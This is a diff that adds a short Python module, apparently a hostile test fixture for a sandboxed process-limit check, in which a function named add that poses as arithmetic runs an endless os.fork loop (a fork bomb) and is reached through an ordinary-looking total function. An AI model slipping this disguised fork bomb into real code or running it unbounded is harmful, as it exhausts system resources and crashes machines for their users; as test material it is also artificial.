@@ -1,0 +1,15 @@
+"""Hostile: fork without end, and keep every child spinning (RLIMIT_NPROC and the pid
+namespace bound it; ending the namespace ends them all)."""
+import os
+
+
+def add(a, b):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+
+
+def total(path="data/numbers.csv"):
+    return add(0, 0)
